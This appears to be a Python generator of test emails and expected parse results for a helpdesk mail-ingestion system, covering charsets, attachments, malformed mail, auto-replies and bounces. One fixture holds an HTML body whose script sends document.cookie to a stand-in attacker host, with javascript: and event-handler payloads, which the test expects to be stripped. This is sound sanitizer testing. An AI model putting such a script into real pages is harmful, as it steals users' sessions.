        "big5hkscs_reply.eml",
        "\n".join(
            [
                f"From: {ew('陳嘉峯', 'big5-hkscs')} <chan.kf@example.com.tw>",
                f"To: TicketDesk Support <{DESK}>",
                f"Subject: =?big5?B?{base64.b64encode('回覆: [TD-000134] 藍牙喇叭無法開機'.encode('big5hkscs')).decode()}?=",
                "Date: Mon, 7 Dec 2026 11:45:00 +0800",
                "Message-ID: <000a01db47c3$9f8e7d60$dead0beef$@example.com.tw>",
                f"In-Reply-To: {outbox_id(113)}",
                f"References: {outbox_id(113)}",
                "MIME-Version: 1.0",
                'Content-Type: text/plain; charset="big5"',
                "Content-Transfer-Encoding: 8bit",
                "X-Mailer: Microsoft Outlook 16.0",
                "",
                hk_text.encode("big5hkscs").decode("utf-8", "surrogateescape"),
            ]
        ),
        expect(
            client="Outlook zh-HK (HKSCS characters labelled Big5, 8bit)",
            sender="chan.kf@example.com.tw",
            sender_name="陳嘉峯",
            subject="回覆: [TD-000134] 藍牙喇叭無法開機",
            message_id="<000a01db47c3$9f8e7d60$dead0beef$@example.com.tw>",
            in_reply_to=(outbox_id(113),),
            text_starts="換貨已經收到，但係新嘅喇叭都係冇聲",
            text_excludes=("換貨已經寄出",),
            quoted=True,
            quoted_contains=("換貨已經寄出",),
            outcome="reply",
            acknowledge=False,
            ticket="TD-000134",
        ),
    )

    ja_text = """株式会社チケットデスク
サポートご担当者様

先日注文した加湿器（注文番号 J-5512）が届きましたが、
電源を入れても動きません。交換をお願いできますでしょうか。

よろしくお願いいたします。
佐藤 花子
"""
    add(
        "iso2022jp_new.eml",
        "\n".join(
            [
                "Return-Path: <hanako.sato@example.jp>",
                "Received: from mail.example.jp (mail.example.jp [198.51.100.80])",
                f"\tby {DESK_RECEIVED} (Postfix) with ESMTPS id 4R8Lm67NoPq",
                f"\tfor <{DESK}>; Sat, 05 Dec 2026 00:31:05 +0000 (UTC)",
                "Date: Sat, 05 Dec 2026 09:31:00 +0900",
                f"From: {ew('佐藤 花子', 'iso-2022-jp')} <hanako.sato@example.jp>",
                f"To: {DESK}",
                f"Subject: {ew('加湿器が動きません（注文番号 J-5512）', 'iso-2022-jp')}",
                "Message-Id: <20261205093100.4F2A.A1B2C3D4@example.jp>",
                "MIME-Version: 1.0",
                'Content-Type: text/plain; charset="ISO-2022-JP"',
                "Content-Transfer-Encoding: 7bit",
                "X-Mailer: Becky! ver. 2.81.04 [ja]",
                "",
                ja_text.encode("iso2022_jp").decode("ascii"),
            ]
        ),
        expect(
            client="Becky! (ISO-2022-JP)",
            sender="hanako.sato@example.jp",
            sender_name="佐藤 花子",
            subject="加湿器が動きません（注文番号 J-5512）",
            message_id="<20261205093100.4F2A.A1B2C3D4@example.jp>",
            text_starts="株式会社チケットデスク",
            text_contains=("電源を入れても動きません",),
            outcome="new_ticket",
            acknowledge=True,
        ),
    )

    ja_reply = """交換品を受け取りましたが、ﾘﾓｺﾝが入っていませんでした。
ご確認ください。

佐藤

2026年12月6日(日) 10:15 TicketDesk Support <support@ticketdesk.example>:
> 佐藤様
> 交換品を本日発送いたしました。
"""
    add(
        "iso2022jp_reply_halfwidth.eml",
        "\n".join(
            [
                "Date: Mon, 07 Dec 2026 19:02:44 +0900",
                f"From: {ew('佐藤 花子', 'iso-2022-jp')} <hanako.sato@example.jp>",
                f"To: {DESK_NAME} <{DESK}>",
                f"Subject: Re: [TD-000135] {ew('加湿器が動きません（注文番号 J-5512）', 'iso-2022-jp')}",
                "Message-Id: <20261207190244.5B3C.D4C3B2A1@example.jp>",
                f"In-Reply-To: {outbox_id(114)}",
                f"References: {outbox_id(114)}",
                "MIME-Version: 1.0",
                'Content-Type: text/plain; charset="ISO-2022-JP"',
                "Content-Transfer-Encoding: 7bit",
                "X-Mailer: Becky! ver. 2.81.04 [ja]",
                "",
                ja_reply.encode("iso2022_jp_ext").decode("ascii"),
            ]
        ),
        expect(
            client="Becky! (ISO-2022-JP with half-width katakana)",
            sender="hanako.sato@example.jp",
            subject="Re: [TD-000135] 加湿器が動きません（注文番号 J-5512）",
            message_id="<20261207190244.5B3C.D4C3B2A1@example.jp>",
            in_reply_to=(outbox_id(114),),
            text_starts="交換品を受け取りましたが、ﾘﾓｺﾝが入っていませんでした。",
            text_excludes=("本日発送",),
            quoted=True,
            quoted_contains=("本日発送",),
            outcome="reply",
            acknowledge=False,
            ticket="TD-000135",
        ),
    )


def attachments() -> None:
    big = PDF[:-6] + b"%" + b"A" * 60_000 + b"\n%%EOF\n"
    add(
        "oversize_attachment.eml",
        f"""\
From: Tom Weber <tom.weber@example.com>
To: {DESK}
Subject: Scanned contract for the complaint
Date: Tue, 1 Dec 2026 12:00:00 +0100
Message-ID: <20261201120000.GA4411@weber-laptop.example.com>
MIME-Version: 1.0
User-Agent: Mutt/2.2.12 (2023-09-09)
Content-Type: multipart/mixed; boundary="J2SCkAp4GZ/dPZZf"
Content-Disposition: inline

--J2SCkAp4GZ/dPZZf
Content-Type: text/plain; charset=us-ascii
Content-Disposition: inline

Please find the signed contract attached; the service was never delivered.

Tom

--J2SCkAp4GZ/dPZZf
Content-Type: application/pdf
Content-Disposition: attachment; filename="contract-scan.pdf"
Content-Transfer-Encoding: base64

{b64(big)}
--J2SCkAp4GZ/dPZZf--
""",
        expect(
            client="Mutt (attachment over the size limit)",
            sender="tom.weber@example.com",
            subject="Scanned contract for the complaint",
            message_id="<20261201120000.GA4411@weber-laptop.example.com>",
            text_starts="Please find the signed contract attached",
            files=(file("contract-scan.pdf", "application/pdf"),),
            outcome="new_ticket",
            acknowledge=True,
            refused_files=("contract-scan.pdf",),
            config={"MAX_ATTACHMENT_BYTES": 50_000},
            note="The file is about 60 KB: refused with MAX_ATTACHMENT_BYTES at 50,000.",
        ),
    )

    for name, filename, ctype, data, client in (
        ("forbidden_exe.eml", "invoice_2026-12.exe", "application/x-msdownload", EXE, "Gmail"),
        ("forbidden_zip.eml", "photos.zip", "application/x-zip-compressed", ZIP, "Outlook"),
    ):
        boundary = (
            "000000000000f1e2d3c4b5a69788" if client == "Gmail" else "_003_HE1PR0402MB2876zip_"
        )
        add(
            name,
            f"""\
MIME-Version: 1.0
From: Nina Petrova <nina.petrova@example.com>
Date: Wed, 2 Dec 2026 15:{10 if client == "Gmail" else 20}:00 +0100
Message-ID: <forbidden-{filename.replace(".", "-")}-7781@example.com>
Subject: Documents for my complaint ({filename})
To: {DESK}
Content-Type: multipart/mixed; boundary="{boundary}"

--{boundary}
Content-Type: text/plain; charset="UTF-8"

The documents for my complaint about the late delivery are attached.
Nina

--{boundary}
Content-Type: {ctype}; name="{filename}"
Content-Disposition: attachment; filename="{filename}"
Content-Transfer-Encoding: base64
X-Attachment-Id: f_m4a1b2c30

{b64(data)}
--{boundary}--
""",
            expect(
                client=f"{client} (forbidden attachment type)",
                sender="nina.petrova@example.com",
                subject=f"Documents for my complaint ({filename})",
                message_id=f"<forbidden-{filename.replace('.', '-')}-7781@example.com>",
                text_starts="The documents for my complaint",
                files=(file(filename, ctype),),
                outcome="new_ticket",
                acknowledge=True,
                refused_files=(filename,),
            ),
        )

    add(
        "rfc2231_encoded_filenames.eml",
        f"""\
MIME-Version: 1.0
From: =?UTF-8?Q?Jos=C3=A9_Garc=C3=ADa?= <jose.garcia@example.com>
Date: Thu, 3 Dec 2026 17:45:10 +0100
Message-ID: <CAM5nY7zR1qS3tU5vW7xY9zA1bC3dE5fG7hI9jK1lM3nO5pQ@mail.gmail.com>
Subject: =?UTF-8?Q?Factura_y_fotos_del_pedido_K-2201?=
To: {DESK}
Content-Type: multipart/mixed; boundary="00000000000077aa88bb99cc00dd"

--00000000000077aa88bb99cc00dd
Content-Type: text/plain; charset="UTF-8"
Content-Transfer-Encoding: quoted-printable

{
            qp('''Buenos días,

adjunto la factura y una foto del daño. El pedido K-2201 llegó roto.

José García
''')
        }
--00000000000077aa88bb99cc00dd
Content-Type: application/pdf;
 name*=UTF-8''%E5%8F%91%E7%A5%A8%20K-2201.pdf
Content-Disposition: attachment;
 filename*=UTF-8''%E5%8F%91%E7%A5%A8%20K-2201.pdf
Content-Transfer-Encoding: base64

{b64(PDF)}
--00000000000077aa88bb99cc00dd
Content-Type: image/jpeg;
 name*0*=UTF-8''Foto%20del%20da%C3%B1o%20%E2%80%93%20;
 name*1*=lado%20izquierdo.jpg
Content-Disposition: attachment;
 filename*0*=UTF-8''Foto%20del%20da%C3%B1o%20%E2%80%93%20;
 filename*1*=lado%20izquierdo.jpg
Content-Transfer-Encoding: base64

{b64(JPEG)}
--00000000000077aa88bb99cc00dd
Content-Type: image/png; name="{ew("收据截图.png", "gb2312")}"
Content-Disposition: attachment; filename="{ew("收据截图.png", "gb2312")}"
Content-Transfer-Encoding: base64

{b64(PNG)}
--00000000000077aa88bb99cc00dd--
""",
        expect(
            client="Gmail (RFC 2231 and RFC 2047 file names)",
            sender="jose.garcia@example.com",
            sender_name="José García",
            subject="Factura y fotos del pedido K-2201",
            message_id="<CAM5nY7zR1qS3tU5vW7xY9zA1bC3dE5fG7hI9jK1lM3nO5pQ@mail.gmail.com>",
            text_starts="Buenos días,",
            text_contains=("llegó roto",),
            files=(
                file("发票 K-2201.pdf", "application/pdf"),
                file("Foto del daño – lado izquierdo.jpg", "image/jpeg"),
                file("收据截图.png", "image/png"),
            ),
            outcome="new_ticket",
            acknowledge=True,
        ),
    )


def malformed() -> None:
    add(
        "missing_message_id.eml",
        f"""\
Received: from legacy-crm.example.com (legacy-crm.example.com [198.51.100.140])
	by {DESK_RECEIVED} (Postfix) with SMTP id 4R9Mn78OpQr
	for <{DESK}>; Tue, 01 Dec 2026 07:00:03 +0000 (UTC)
From: "Hotel Seeblick Reception" <reception@seeblick.example.com>
To: {DESK}
Subject: Guest complaint forwarded by the reception: room 214
Date: Tue, 1 Dec 2026 08:00:00 +0100
X-Mailer: PHPMailer 5.2.9

Our guest in room 214 (Mr. Olsen) complains that the minibar was charged
although he did not use it. Please contact him at olsen@example.com.
""",
        expect(
            client="PHP form mailer (no Message-ID, no MIME-Version)",
            sender="reception@seeblick.example.com",
            subject="Guest complaint forwarded by the reception: room 214",
            message_id="",
            text_starts="Our guest in room 214",
            outcome="new_ticket",
            acknowledge=True,
            note="Without a Message-ID the stored message is recognised again by its bytes.",
        ),
    )

    dup = f"""\
Return-Path: <irene.novak@example.com>
Delivered-To: {DESK}
Received: from smtp.example.com (smtp.example.com [192.0.2.55])
	by {DESK_RECEIVED} (Postfix) with ESMTPS id {{qid}}
	for <{{rcpt}}>; Wed, 02 Dec 2026 10:00:0{{sec}} +0000 (UTC)
From: Irene Novak <irene.novak@example.com>
To: {DESK}
Cc: complaints@ticketdesk.example
Subject: Wrong colour delivered (order L-1010)
Date: Wed, 2 Dec 2026 11:00:00 +0100
Message-ID: <a7b8c9d0-e1f2-4a3b-9c4d-5e6f7a8b9c0d@example.com>
MIME-Version: 1.0
Content-Type: text/plain; charset=UTF-8; format=flowed
Content-Transfer-Encoding: 7bit
User-Agent: Mozilla Thunderbird

I ordered the sofa cover in grey and received it in bright orange.

Irene
"""
    common = dict(
        client="Thunderbird (delivered twice: To and Cc both reach the desk)",
        sender="irene.novak@example.com",
        subject="Wrong colour delivered (order L-1010)",
        message_id="<a7b8c9d0-e1f2-4a3b-9c4d-5e6f7a8b9c0d@example.com>",
        text_starts="I ordered the sofa cover in grey",
        acknowledge=True,
    )
    add(
        "duplicate_delivery_a.eml",
        dup.format(qid="4RAb12CdEfG", rcpt=DESK, sec=3),
        expect(outcome="new_ticket", **common),
    )
    add(
        "duplicate_delivery_b.eml",
        dup.format(qid="4RAb13DeFgH", rcpt="complaints@ticketdesk.example", sec=4),
        expect(
            outcome="new_ticket",
            duplicate_of="duplicate_delivery_a.eml",
            **common,
            note="Same Message-ID as duplicate_delivery_a.eml: stored and acted on once.",
        ),
    )

    add(
        "malformed_missing_from.eml",
        f"""\
Received: from scanner.office.example.com (scanner.office.example.com [10.1.2.3])
	by {DESK_RECEIVED} (Postfix) with SMTP id 4RBc23DeFgH
	for <{DESK}>; Thu, 03 Dec 2026 06:00:00 +0000 (UTC)
To: {DESK}
Subject: Scan from MFP-4th-floor
Date: Thu, 3 Dec 2026 07:00:00 +0100
Message-ID: <mfp4.20261203070000.0042@scanner.office.example.com>
MIME-Version: 1.0
Content-Type: text/plain; charset=us-ascii

Scanned document attached (0 pages).
""",
        expect(
            client="Office scanner (no From)",
            sender="",
            subject="Scan from MFP-4th-floor",
            message_id="<mfp4.20261203070000.0042@scanner.office.example.com>",
            text_starts="Scanned document attached",
            outcome="held",
            acknowledge=False,
            note="No sender: nobody to open a ticket for or to answer; held for an admin.",
        ),
    )

    add(
        "malformed_bad_date_nul.eml",
        f"From: Paul Meyer <paul.meyer@example.com>\n"
        f"To: {DESK}\n"
        f"Subject: Broken\x00 dishwasher\n"
        f"Date: Tuesday, the first of December\n"
        f"Message-ID: <bad-date-0001@meyer.example.com>\n"
        f"MIME-Version: 1.0\n"
        f"Content-Type: text/plain; charset=utf-8\n"
        f"Content-Transfer-Encoding: 8bit\n"
        f"\n"
        f"The dishwasher\x00 stopped after two weeks.\n"
        f"Error code E24 on the display.\n",
        expect(
            client="Home-made script (bad date, NUL bytes)",
            sender="paul.meyer@example.com",
            subject="Broken dishwasher",
            message_id="<bad-date-0001@meyer.example.com>",
            text_starts="The dishwasher stopped after two weeks.",
            outcome="new_ticket",
            acknowledge=True,
            date=None,
        ),
    )

    add(
        "malformed_broken_encoded_words.eml",
        (
            f"From: =?utf-8?B?RnJhbsOnb2lzIER1cG9udA?= <francois.dupont@example.com>\n"
            f"To: {DESK}\n"
            f"Subject: =?utf-8?Q?Commande_M-4040_livr=C3=A9e_incompl=C3=A8te?=\n"
            f" =?x-unknown?Q?_=E2=80=93_urgent?=\n"
            f"Date: Fri, 4 Dec 2026 10:00:00 +0100\n"
            f"Message-ID: <broken-ew-4040@dupont.example.com>\n"
            f"Content-Type: text/plain\n"
            f"\n"
            f"Il manque deux chaises dans la commande M-4040. Merci de vérifier.\n"
            f"François\n"
        ).encode(),
        expect(
            client="Broken encoder (no base64 padding, unknown charset, 8-bit body without MIME)",
            sender="francois.dupont@example.com",
            sender_name="François Dupont",
            subject="Commande M-4040 livrée incomplète – urgent",
            message_id="<broken-ew-4040@dupont.example.com>",
            text_starts="Il manque deux chaises",
            text_contains=("Merci de vérifier.",),
            outcome="new_ticket",
            acknowledge=True,
        ),
    )

    add(
        "raw_8bit_headers.eml",
        (
            f"From: 赵敏 <zhaomin@example.cn>\n"
            f"To: {DESK}\n"
            f"Subject: 洗衣机漏水，订单 N-7070\n"
            f"Date: Sat, 5 Dec 2026 16:00:00 +0800\n"
            f"Message-ID: <raw8bit-7070@example.cn>\n"
            f"MIME-Version: 1.0\n"
            f"Content-Type: text/plain; charset=gb2312\n"
            f"Content-Transfer-Encoding: 8bit\n"
            f"\n"
            f"洗衣机用了三天就开始漏水，地板都湿了。\n"
        ).encode("gb18030"),
        expect(
            client="Old client (8-bit GB18030 headers, no encoded words)",
            sender="zhaomin@example.cn",
            sender_name="赵敏",
            subject="洗衣机漏水，订单 N-7070",
            message_id="<raw8bit-7070@example.cn>",
            text_starts="洗衣机用了三天就开始漏水",
            outcome="new_ticket",
            acknowledge=True,
        ),
    )

    add(
        "wrong_charset_label.eml",
        (
            f"From: Zoe Clarke <zoe.clarke@example.com>\n"
            f"To: {DESK}\n"
            f"Subject: Refund for the cafe voucher\n"
            f"Date: Sun, 6 Dec 2026 09:00:00 +0000\n"
            f"Message-ID: <wrong-label-0606@clarke.example.com>\n"
            f"MIME-Version: 1.0\n"
            f"Content-Type: text/plain; charset=utf-8\n"
            f"Content-Transfer-Encoding: 8bit\n"
            f"\n"
            f"The Café Crème voucher (£25) was refused at the till.\n"
        ).encode("windows-1252"),
        expect(
            client="Webmail plugin (windows-1252 text labelled UTF-8)",
            sender="zoe.clarke@example.com",
            subject="Refund for the cafe voucher",
            message_id="<wrong-label-0606@clarke.example.com>",
            text_starts="The Café Crème voucher (£25) was refused",
            outcome="new_ticket",
            acknowledge=True,
        ),
    )

    add(
        "unknown_charset.eml",
        (
            f"From: Omar Haddad <omar.haddad@example.com>\n"
            f"To: {DESK}\n"
            f"Subject: Delivery slot missed\n"
            f"Date: Sun, 6 Dec 2026 10:00:00 +0000\n"
            f"Message-ID: <unknown-charset-0606@haddad.example.com>\n"
            f"MIME-Version: 1.0\n"
            f'Content-Type: text/plain; charset="x-user-defined-8bit"\n'
            f"Content-Transfer-Encoding: 8bit\n"
            f"\n"
            f"The driver came at 21:00 instead of 09:00–12:00 — nobody was home.\n"
        ).encode(),
        expect(
            client="Unknown charset label",
            sender="omar.haddad@example.com",
            subject="Delivery slot missed",
            message_id="<unknown-charset-0606@haddad.example.com>",
            text_starts="The driver came at 21:00 instead of 09:00–12:00 — nobody was home.",
            outcome="new_ticket",
            acknowledge=True,
        ),
    )

    add(
        "html_script_tracking.eml",
        f"""\
From: Ivo Horvat <ivo.horvat@example.com>
To: {DESK}
Subject: Please stop the double billing
Date: Mon, 7 Dec 2026 08:30:00 +0100
Message-ID: <html-script-0707@horvat.example.com>
MIME-Version: 1.0
Content-Type: text/html; charset=utf-8
Content-Transfer-Encoding: 7bit

<html><head><title>mail</title><script>document.location='https://evil.example.com/?c='+document.cookie</script></head>
<body onload="alert(1)"><p style="color:red" onclick="steal()">You billed me twice for December:</p>
<ul><li>01.12. 19.99 EUR</li><li>02.12. 19.99 EUR</li></ul>
<p><a href="javascript:alert(2)">my account</a> <img src="https://pixel.example.com/t.gif"></p>
<p>Ivo</p></body></html>
""",
        expect(
            client="Web form relay (HTML with script and tracking pixel)",
            sender="ivo.horvat@example.com",
            subject="Please stop the double billing",
            message_id="<html-script-0707@horvat.example.com>",
            text_starts="You billed me twice for December:",
            text_contains=("* 01.12. 19.99 EUR",),
            text_excludes=("document.location",),
            html=True,
            html_excludes=(
                "<script",
                "onload",
                "onclick",
                "javascript:",
                "pixel.example.com",
                "document.cookie",
            ),
            outcome="new_ticket",
            acknowledge=True,
        ),
    )

    add(
        "stranger_names_ticket.eml",
        f"""\
From: Unknown Person <someone.else@example.org>
To: {DESK}
Subject: Re: [TD-000123] Order A-1001 arrived broken
Date: Tue, 1 Dec 2026 18:00:00 +0100
Message-ID: <stranger-0001@example.org>
MIME-Version: 1.0
Content-Type: text/plain; charset=utf-8

Please send the replacement to my address instead: 12 Other Street.
""",
        expect(
            client="A stranger naming a ticket in the subject",
            sender="someone.else@example.org",
            subject="Re: [TD-000123] Order A-1001 arrived broken",
            message_id="<stranger-0001@example.org>",
            text_starts="Please send the replacement to my address instead",
            outcome="new_ticket",
            acknowledge=True,
            ticket="TD-000123",
            note="The sender is no contact of TD-000123's customer: a new ticket pointing at it, flagged.",
        ),
    )

    add(
        "from_our_own_address.eml",
        f"""\
From: {DESK_NAME} <{DESK}>
To: {DESK}
Subject: [TD-000136] Your complaint has been received
Date: Tue, 1 Dec 2026 19:00:00 +0000
Message-ID: {outbox_id(115)}
Auto-Submitted: auto-generated
MIME-Version: 1.0
Content-Type: text/plain; charset=utf-8

We have received your complaint and will answer by Wednesday 10:00.
""",
        expect(
            client="Our own acknowledgement coming back",
            sender=DESK,
            subject="[TD-000136] Your complaint has been received",
            message_id=outbox_id(115),
            text_starts="We have received your complaint",
            automated=True,
            outcome="ignored_automatic",
            acknowledge=False,
        ),
    )

    add(
        "not_a_message.eml",
        b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)) * 2,
        {
            "unreadable": True,
            "client": "Not mail at all (a PNG file piped by mistake)",
            "outcome": "held",
            "acknowledge": False,
            "refused_files": [],
            "files": [],
            "note": "",
        },
    )


def automated() -> None:
    add(
        "auto_reply_exchange_ooo.eml",
        f"""\
From: Karen Holt <karen.holt@example.com>
To: TicketDesk Support <{DESK}>
Subject: Automatic reply: [TD-000137] Damaged delivery
Thread-Topic: [TD-000137] Damaged delivery
Date: Tue, 1 Dec 2026 14:03:00 +0000
Message-ID: <d2c3b4a5f6e7485990a1b2c3d4e5f607@holt.example.com>
In-Reply-To: {outbox_id(116)}
References: {outbox_id(116)}
Auto-Submitted: auto-replied
X-MS-Exchange-Inbox-Rules-Loop: karen.holt@example.com
X-Auto-Response-Suppress: All
Content-Type: text/plain; charset="us-ascii"
MIME-Version: 1.0

I am out of the office until 14 December with no access to e-mail.
""",
        expect(
            client="Exchange (out-of-office)",
            sender="karen.holt@example.com",
            subject="Automatic reply: [TD-000137] Damaged delivery",
            message_id="<d2c3b4a5f6e7485990a1b2c3d4e5f607@holt.example.com>",
            in_reply_to=(outbox_id(116),),
            text_starts="I am out of the office",
            automated=True,
            outcome="ignored_automatic",
            acknowledge=False,
            ticket="TD-000137",
        ),
    )

    add(
        "ooo_subject_but_person.eml",
        f"""\
From: Karen Holt <karen.holt@example.com>
To: TicketDesk Support <{DESK}>
Subject: Re: [TD-000137] Damaged delivery (was out of office)
Date: Mon, 14 Dec 2026 09:00:00 +0000
Message-ID: <back-from-holiday-0137@holt.example.com>
In-Reply-To: {outbox_id(117)}
References: {outbox_id(116)} {outbox_id(117)}
Content-Type: text/plain; charset="us-ascii"
MIME-Version: 1.0

Back now. Yes, please collect the damaged table on Thursday.
""",
        expect(
            client="A person whose subject mentions out of office",
            sender="karen.holt@example.com",
            subject="Re: [TD-000137] Damaged delivery (was out of office)",
            message_id="<back-from-holiday-0137@holt.example.com>",
            in_reply_to=(outbox_id(117),),
            text_starts="Back now.",
            automated=False,
            outcome="reply",
            acknowledge=False,
            ticket="TD-000137",
            note="An out-of-office subject alone is only a supporting sign: a person wrote this.",
        ),
    )

    add(
        "autoresponder_x_autorespond.eml",
        f"""\
From: Acme Helpdesk <help@acme.example.com>
To: {DESK}
Subject: [Acme #88213] We received your message
Date: Tue, 1 Dec 2026 15:00:00 +0000
Message-ID: <acme-88213-ack@acme.example.com>
X-Autorespond: yes
MIME-Version: 1.0
Content-Type: text/plain; charset=utf-8

Thank you for contacting Acme. Your request number is 88213.
""",
        expect(
            client="Another helpdesk's autoresponder",
            sender="help@acme.example.com",
            subject="[Acme #88213] We received your message",
            message_id="<acme-88213-ack@acme.example.com>",
            text_starts="Thank you for contacting Acme.",
            automated=True,
            outcome="ignored_automatic",
            acknowledge=False,
        ),
    )

    add(
        "precedence_bulk_newsletter.eml",
        f"""\
From: Shop Newsletter <news@shop.example.com>
To: {DESK}
Subject: December deals: 20% off all teapots
Date: Tue, 1 Dec 2026 06:00:00 +0000
Message-ID: <nl-2026-12-01.441@news.shop.example.com>
Precedence: bulk
List-Unsubscribe: <mailto:unsubscribe@news.shop.example.com?subject=unsubscribe>,
 <https://news.shop.example.com/u/441>
List-Unsubscribe-Post: List-Unsubscribe=One-Click
MIME-Version: 1.0
Content-Type: text/html; charset=utf-8

<html><body><h1>December deals</h1><p>20% off all teapots.</p></body></html>
""",
        expect(
            client="Newsletter (Precedence: bulk)",
            sender="news@shop.example.com",
            subject="December deals: 20% off all teapots",
            message_id="<nl-2026-12-01.441@news.shop.example.com>",
            text_starts="December deals",
            html=True,
            automated=True,
            outcome="ignored_automatic",
            acknowledge=False,
        ),
    )

    add(
        "mailing_list.eml",
        """\
Return-Path: <users-bounces+support=ticketdesk.example@lists.example.org>
From: Rob Lee <rob.lee@example.org>
To: users@lists.example.org
Subject: [users] Anyone else seeing late deliveries?
Date: Wed, 2 Dec 2026 12:00:00 +0000
Message-ID: <list-post-7781@example.org>
List-Id: Users of the shop <users.lists.example.org>
List-Post: <mailto:users@lists.example.org>
List-Help: <mailto:users-request@lists.example.org?subject=help>
Precedence: list
Errors-To: users-bounces+support=ticketdesk.example@lists.example.org
Sender: "users" <users-bounces+support=ticketdesk.example@lists.example.org>
MIME-Version: 1.0
Content-Type: text/plain; charset=utf-8

Hi all, my last three orders were late. Anyone else?
_______________________________________________
users mailing list
users@lists.example.org
""",
        expect(
            client="Mailman list message",
            sender="rob.lee@example.org",
            subject="[users] Anyone else seeing late deliveries?",
            message_id="<list-post-7781@example.org>",
            text_starts="Hi all, my last three orders were late.",
            automated=True,
            outcome="ignored_automatic",
            acknowledge=False,
        ),
    )


def bounces() -> None:
    add(
        "dsn_postfix.eml",
        f"""\
Return-Path: <>
Received: by {DESK_RECEIVED} (Postfix)
	id 4RCd34EfGhI; Tue,  1 Dec 2026 10:05:02 +0000 (UTC)
Date: Tue,  1 Dec 2026 10:05:02 +0000 (UTC)
From: MAILER-DAEMON@ticketdesk.example (Mail Delivery System)
Subject: Undelivered Mail Returned to Sender
To: {DESK}
Auto-Submitted: auto-replied
MIME-Version: 1.0
Content-Type: multipart/report; report-type=delivery-status;
	boundary="4RCd34EfGhI.1796119502/mx1.ticketdesk.example"
Content-Transfer-Encoding: 8bit
Message-Id: <20261201100502.4RCd34EfGhI@mx1.ticketdesk.example>

This is a MIME-encapsulated message.

--4RCd34EfGhI.1796119502/mx1.ticketdesk.example
Content-Description: Notification
Content-Type: text/plain; charset=us-ascii

This is the mail system at host mx1.ticketdesk.example.

I'm sorry to have to inform you that your message could not
be delivered to one or more recipients. It's attached below.

For further assistance, please send mail to postmaster.

If you do so, please include this problem report. You can
delete your own text from the attached returned message.

                   The mail system

<nobody.here@example.com>: host mx.example.com[192.0.2.10] said: 550 5.1.1
    <nobody.here@example.com>: Recipient address rejected: User unknown in
    virtual mailbox table (in reply to RCPT TO command)

--4RCd34EfGhI.1796119502/mx1.ticketdesk.example
Content-Description: Delivery report
Content-Type: message/delivery-status

Reporting-MTA: dns; mx1.ticketdesk.example
X-Postfix-Queue-ID: 4RCd34EfGhI
X-Postfix-Sender: rfc822; {DESK}
Arrival-Date: Tue,  1 Dec 2026 10:05:01 +0000 (UTC)

Final-Recipient: rfc822; nobody.here@example.com
Original-Recipient: rfc822;nobody.here@example.com
Action: failed
Status: 5.1.1
Remote-MTA: dns; mx.example.com
Diagnostic-Code: smtp; 550 5.1.1 <nobody.here@example.com>: Recipient address
    rejected: User unknown in virtual mailbox table

--4RCd34EfGhI.1796119502/mx1.ticketdesk.example
Content-Description: Undelivered Message
Content-Type: message/rfc822
Content-Transfer-Encoding: 8bit

Return-Path: <{DESK}>
Received: from app1.ticketdesk.example (app1.ticketdesk.example [10.0.0.5])
	by mx1.ticketdesk.example (Postfix) with ESMTP id 4RCd34EfGhI
	for <nobody.here@example.com>; Tue,  1 Dec 2026 10:05:01 +0000 (UTC)
From: {DESK_NAME} <{DESK}>
To: nobody.here@example.com
Subject: [TD-000138] We have received your complaint
Date: Tue, 01 Dec 2026 10:05:00 +0000
Message-ID: {outbox_id(118)}
Auto-Submitted: auto-generated
MIME-Version: 1.0
Content-Type: text/plain; charset="utf-8"
Content-Transfer-Encoding: 7bit

Dear customer, we have received your complaint.

--4RCd34EfGhI.1796119502/mx1.ticketdesk.example--
""",
        expect(
            client="Postfix DSN",
            sender="mailer-daemon@ticketdesk.example",
            subject="Undelivered Mail Returned to Sender",
            message_id="<20261201100502.4RCd34EfGhI@mx1.ticketdesk.example>",
            text_starts="This is the mail system at host",
            automated=True,
            bounce={
                "original_message_id": outbox_id(118),
                "recipient": "nobody.here@example.com",
                "status": "5.1.1",
                "reason_contains": "User unknown",
            },
            outcome="bounce",
            acknowledge=False,
            ticket="TD-000138",
        ),
    )

    add(
        "dsn_exchange_online.eml",
        f"""\
Received: from AM9P192MB0888.EURP192.PROD.OUTLOOK.EXAMPLE (2603:10a6:20b:3e1::12)
 by mx1.ticketdesk.example with HTTPS; Wed, 2 Dec 2026 09:12:44 +0000
From: postmaster@contoso-retail.example.com
To: {DESK}
Date: Wed, 2 Dec 2026 09:12:44 +0000
Content-Type: multipart/report; report-type=delivery-status;
	boundary="ab1c2d3e-4f5a-6b7c-8d9e-0f1a2b3c4d5e"
X-MS-Exchange-Message-Is-Ndr:
Content-Language: en-US
Message-ID:
 <4b5c6d7e-8f90-41a2-b3c4-d5e6f7a8b9c0@AM9P192MB0888.EURP192.PROD.OUTLOOK.EXAMPLE>
In-Reply-To: {outbox_id(119)}
References: {outbox_id(119)}
Subject: Undeliverable: [TD-000139] Your complaint has been resolved
Auto-Submitted: auto-replied
MIME-Version: 1.0

--ab1c2d3e-4f5a-6b7c-8d9e-0f1a2b3c4d5e
Content-Type: multipart/alternative; differences=Content-Type;
	boundary="9f8e7d6c-5b4a-3928-1706-f5e4d3c2b1a0"

--9f8e7d6c-5b4a-3928-1706-f5e4d3c2b1a0
Content-Type: text/plain; charset="us-ascii"
Content-Transfer-Encoding: quoted-printable

Your message to m.ruiz@contoso-retail.example.com couldn't be delivered.
m.ruiz wasn't found at contoso-retail.example.com.

--9f8e7d6c-5b4a-3928-1706-f5e4d3c2b1a0
Content-Type: text/html; charset="us-ascii"
Content-Transfer-Encoding: quoted-printable

<html><head></head><body><table><tr><td>Your message to <a href=3D"mailto:m.ruiz@contoso-retail.example.com">m.ruiz@contoso-retail.example.com</a> couldn't be delivered.</td></tr></table></body></html>

--9f8e7d6c-5b4a-3928-1706-f5e4d3c2b1a0--

--ab1c2d3e-4f5a-6b7c-8d9e-0f1a2b3c4d5e
Content-Type: message/delivery-status

Reporting-MTA: dns;AM9P192MB0888.EURP192.PROD.OUTLOOK.EXAMPLE
Received-From-MTA: dns;mx1.ticketdesk.example
Arrival-Date: Wed, 2 Dec 2026 09:12:43 +0000

Original-Recipient: rfc822;m.ruiz@contoso-retail.example.com
Final-Recipient: rfc822;m.ruiz@contoso-retail.example.com
Action: failed
Status: 5.1.10
Diagnostic-Code: smtp;550 5.1.10 RESOLVER.ADR.RecipientNotFound; Recipient
 m.ruiz@contoso-retail.example.com not found by SMTP address lookup


--ab1c2d3e-4f5a-6b7c-8d9e-0f1a2b3c4d5e
Content-Type: message/rfc822

